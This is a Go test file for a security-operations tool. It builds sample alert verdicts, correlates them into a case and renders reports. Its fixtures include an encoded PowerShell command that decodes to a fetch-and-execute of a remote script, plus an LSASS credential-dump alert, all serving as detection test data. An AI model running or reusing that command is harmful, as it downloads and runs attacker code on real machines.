package report_test

import (
	"crypto/sha256"
	"encoding/json"
	"slices"
	"testing"
	"time"

	"github.com/seed-959697dd/soc/alert"
	"github.com/seed-959697dd/soc/internal/check"
	"github.com/seed-959697dd/soc/internal/render/report"
	"github.com/seed-959697dd/soc/investigate"
)

var noon = time.Date(2026, 3, 14, 12, 0, 0, 0, time.UTC)

type thing struct {
	Type  string `json:"type"`
	Role  string `json:"role"`
	Value string `json:"value"`
	Path  string `json:"path"`
}

type receipt struct {
	Path  string `json:"path"`
	Value string `json:"value"`
}

type signal struct {
	Check    string    `json:"check"`
	Family   string    `json:"family"`
	Weight   int       `json:"weight"`
	Term     int       `json:"term"`
	Sentence string    `json:"sentence"`
	Receipts []receipt `json:"receipts"`
}

// told is what a sample says of a verdict.
type told struct {
	id, alert, title, vendor, input string
	minute                          int
	techniques                      []string
	things                          []thing
	indicators                      []thing
	signals                         []signal
	gap                             string
}

func (v told) document(t *testing.T) string {
	t.Helper()
	at := noon.Add(time.Duration(v.minute) * time.Minute)
	doc, err := json.Marshal(map[string]any{
		"kind": "verdict", "version": 1, "id": v.id, "case": "c-5a", "route": "escalate", "disposition": "true_positive", "score": 4000 - v.minute, "base": -2944, "probability": 0.98,
		"group":    map[string]any{"count": 1 + v.minute, "first_time": at, "last_time": at, "alert_ids": []string{v.alert}},
		"severity": map[string]any{"recommended": "critical", "vendor": "12", "score": 95},
		"alert": map[string]any{
			"id": v.alert, "title": v.title, "vendor": v.vendor, "product": v.vendor, "time": at, "techniques": v.techniques, "entities": v.things, "indicators": v.indicators,
			"input": map[string]any{"name": v.input, "line": 7, "offset": 812}, "digest": "sha256:" + string(make([]byte, 0)) + "00", "action": "allowed",
		},
		"signals": v.signals, "gaps": []map[string]any{{"check": "assets", "class": "unconfigured", "reason": v.gap}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return string(doc)
}

// caseOf makes one case of verdicts, concluded as the program does it.
func caseOf(t *testing.T, more func(*investigate.Case), verdicts ...told) *investigate.Case {
	t.Helper()
	var list []investigate.Verdict
	docs := map[string]string{}
	for _, v := range verdicts {
		doc := v.document(t)
		read, err := investigate.ReadVerdict(doc)
		if err != nil {
			t.Fatal(err)
		}
		list, docs[v.id] = append(list, read), doc
	}
	list, clusters := investigate.Correlate(list)
	if len(clusters) != 1 {
		t.Fatalf("%d cases", len(clusters))
	}
	var members []investigate.Member
	for _, at := range clusters[0].Members {
		members = append(members, investigate.Member{ID: list[at].ID, Document: docs[list[at].ID]})
	}
	k := investigate.NewCase(list, &clusters[0], members)
	if more != nil {
		more(&k)
	}
	k.Decode(func(text string) (list []investigate.Script) {
		for _, h := range check.Reveal(text) {
			list = append(list, investigate.Script(h))
		}
		return list
	})
	k.Stand(func(kind, value string) investigate.Standing {
		if investigate.HostOf(kind, value) == "www.example.com" {
			return investigate.Listed
		}
		return ""
	})
	k.Conclude()
	return &k
}

// night is what a case usually holds: an encoded command, stolen credentials, events, a hole.
func night(t *testing.T) *investigate.Case {
	t.Helper()
	return caseOf(
		t, func(k *investigate.Case) {
			k.Events = []investigate.Event{{
				Summary: "alice signed in to ws-12 from 198.51.100.7", Why: "logon session of alert a2", Phase: "lateral-movement", Evidence: 700,
				Record: &alert.Alert{
					Time: noon.Add(3 * time.Minute), Product: "Windows", Digest: sha256.Sum256([]byte("event")), Input: alert.Place{Name: "logs/security.json", Line: 812, Offset: 90210},
					Fields: []alert.Field{{Slot: alert.EntitySlot(alert.Source, alert.IP), Path: "IpAddress", Value: "198.51.100.7"}, {Slot: alert.EntitySlot(alert.Target, alert.Host), Path: "Computer", Value: "ws-12"}},
				},
			}}
			k.Holes = []investigate.Hole{{Source: "logs/dns.json", From: noon.Add(time.Minute), To: noon.Add(4 * time.Minute), Reason: "no data collected"}}
			k.Skews = []investigate.Skew{{Source: "logs/dns.json", Against: "logs/security.json", Ahead: -3 * time.Second, Pairs: 12}}
			k.Questions = []string{"did the script fetch more? Proxy logs of 12:00 to 13:00 would tell."}
		},
		told{
			id: "v-1a", alert: "a1", title: "Encoded PowerShell command", vendor: "Wazuh", input: "alerts.json", techniques: []string{"T1059.001"}, gap: "no inventory is configured",
			things: []thing{
				{"host", "target", "ws-12.example.com", "host"},
				{"user", "actor", `CORP\alice`, "user"},
				{"process", "actor", `C:\Windows\System32\powershell.exe`, "image"},
				{"process_command", "actor", "powershell -enc aQByAG0AIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOQAvAGEAIAB8ACAAaQBlAHgA", "cmd"},
				{"process_command", "related", `WINWORD.EXE /n C:\Users\alice\invoice.docm`, "parent"},
				{"ip", "target", "203.0.113.40", "dst"},
			},
			indicators: []thing{{Type: "ip", Value: "203.0.113.40", Path: "dst"}, {Type: "domain", Value: "www.example.com", Path: "dns"}},
			signals:    []signal{{"commands", "command", 2600, 2600, "PowerShell is given an encoded command", []receipt{{"cmd", "-enc aQBy"}}}},
		},
		told{
			id: "v-2b", alert: "a2", title: "LSASS memory dumped", vendor: "Wazuh", input: "alerts.json", minute: 5, techniques: []string{"T1003.001"}, gap: "no inventory is configured",
			things:  []thing{{"host", "target", "ws-12", "host"}, {"user", "actor", `CORP\alice`, "user"}, {"process", "actor", `C:\Temp\x.exe`, "image"}},
			signals: []signal{{"credentials", "credentials", 3000, 3000, "a process is dumped", []receipt{{"cmd", "lsass"}}}},
		},
	)
}

// written is cases in one form.
func written(t *testing.T, form string, cases ...*investigate.Case) string {
	t.Helper()
	at := slices.IndexFunc(report.Forms(), func(f report.Form) bool { return f.Name == form })
	if at < 0 {
		t.Fatalf("no form %s", form)
	}
	w := report.Forms()[at].New(report.Options{Version: "test"})
	var out []byte
	out = append(out, w.Begin(nil)...)
	for _, k := range cases {
		out = append(out, w.Case(nil, k)...) // as a stream does it
	}
	return string(append(out, w.End(nil)...))
}
